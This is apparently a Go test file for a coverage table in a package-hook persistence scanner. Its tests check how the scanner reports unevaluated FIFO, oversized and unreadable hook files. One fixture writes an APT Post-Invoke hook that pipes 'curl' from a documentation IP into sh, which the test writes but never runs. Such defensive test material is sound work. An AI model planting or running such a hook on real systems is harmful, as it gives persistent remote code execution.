package coverage_test

import (
	"context"
	"encoding/json"
	"os"
	"os/exec"
	"path/filepath"
	"sort"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/pkgpersist/pkgpersist/extension/registry"
	"github.com/pkgpersist/pkgpersist/extension/table"
	"github.com/pkgpersist/pkgpersist/extension/tables/coverage"
	"github.com/pkgpersist/pkgpersist/test/need"
)

func rootQuery(root string) table.QueryContext {
	return table.QueryContext{Constraints: map[string][]table.Constraint{"root": {{Op: table.Equals, Expr: root}}}}
}

func run(t *testing.T, ctx context.Context, root string) []table.Row {
	t.Helper()
	rows, err := coverage.Table(registry.Tables).Run(ctx, rootQuery(root))
	if err != nil {
		t.Fatal(err)
	}
	return rows
}

// summary renders rows as "source status cause path" lines, sorted.
func summary(rows []table.Row) string {
	var out []string
	for _, r := range rows {
		out = append(out, strings.Join([]string{r["source"], r["status"], r["cause"], r["path"]}, " "))
	}
	sort.Strings(out)
	return strings.Join(out, "\n")
}

// TestCompleteOnFixtures: every table reads everything on the fixture
// roots: one complete row per table.
func TestCompleteOnFixtures(t *testing.T) {
	var want []string
	for _, tb := range registry.Tables() {
		if tb.Name != coverage.Name && !tb.Evented {
			want = append(want, tb.Name+" complete  ")
		}
	}
	sort.Strings(want)
	for _, root := range []string{"planted", "debian-real", "dnf4", "yum", "dpkg"} {
		rows := run(t, context.Background(), filepath.Join("../../../test/roots", root))
		if got := summary(rows); got != strings.Join(want, "\n") {
			t.Errorf("%s:\n%s", root, got)
		}
	}
}

// TestWhatCouldNotBeEvaluated: a FIFO where dpkg reads a file and a file
// too large for the time given are rows, with their causes; the tables
// that read everything are complete.
func TestWhatCouldNotBeEvaluated(t *testing.T) {
	root := t.TempDir()
	for _, d := range []string{"etc/dpkg/dpkg.cfg.d", "etc/apt/apt.conf.d"} {
		if err := os.MkdirAll(filepath.Join(root, d), 0o755); err != nil {
			t.Fatal(err)
		}
	}
	if err := syscall.Mkfifo(filepath.Join(root, "etc/dpkg/dpkg.cfg.d/hook"), 0o644); err != nil {
		t.Fatal(err)
	}
	huge := filepath.Join(root, "etc/apt/apt.conf.d/50huge.conf")
	if err := os.WriteFile(huge, []byte("// padding follows\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	if err := os.Truncate(huge, 64<<30); err != nil {
		t.Fatal(err)
	}
	ctx, cancel := context.WithTimeout(context.Background(), 2*time.Second)
	defer cancel()
	got := summary(run(t, ctx, root))
	for _, want := range []string{
		"apt_hooks unevaluated deadline /etc/apt/apt.conf.d/50huge.conf",
		"dpkg_hooks unevaluated special /etc/dpkg/dpkg.cfg.d/hook",
		"dnf_plugins complete  ",
	} {
		if !strings.Contains(got, want) {
			t.Errorf("missing %q in\n%s", want, got)
		}
	}
}

// TestUnreadableAsNobody: run as a user who cannot read a hook file, the
// file is unreadable with cause permission (the test runs itself again as
// nobody).
func TestUnreadableAsNobody(t *testing.T) {
	if root := os.Getenv("PKGPERSIST_COVERAGE_CHILD"); root != "" {
		rows, err := coverage.Table(registry.Tables).Run(context.Background(), rootQuery(root))
		if err != nil {
			t.Fatal(err)
		}
		json.NewEncoder(os.Stdout).Encode(rows)
		return
	}
	if os.Geteuid() != 0 {
		need.Missing(t, "switching to nobody needs root")
	}
	need.Program(t, "setpriv")
	root, err := os.MkdirTemp("", "coverage")
	if err != nil {
		t.Fatal(err)
	}
	defer os.RemoveAll(root)
	os.Chmod(root, 0o755)
	parts := filepath.Join(root, "etc/apt/apt.conf.d")
	if err := os.MkdirAll(parts, 0o755); err != nil {
		t.Fatal(err)
	}
	secret := filepath.Join(parts, "50secret.conf")
	if err := os.WriteFile(secret, []byte(`DPkg::Post-Invoke { "curl http://198.51.100.7/s | sh"; };`), 0o600); err != nil {
		t.Fatal(err)
	}
	cmd := exec.Command("setpriv", "--reuid=65534", "--regid=65534", "--clear-groups", os.Args[0], "-test.run=^TestUnreadableAsNobody$")
	cmd.Env = append(os.Environ(), "PKGPERSIST_COVERAGE_CHILD="+root)
	out, err := cmd.Output()
	if err != nil {
		t.Fatalf("as nobody: %v\n%s", err, out)
	}
	start := strings.IndexByte(string(out), '[')
	var rows []table.Row
	if start < 0 || json.NewDecoder(strings.NewReader(string(out[start:]))).Decode(&rows) != nil {
		t.Fatalf("child output: %s", out)
	}
	if got := summary(rows); !strings.Contains(got, "apt_hooks unreadable permission /etc/apt/apt.conf.d/50secret.conf") {
		t.Errorf("as nobody:\n%s", got)
	}
}
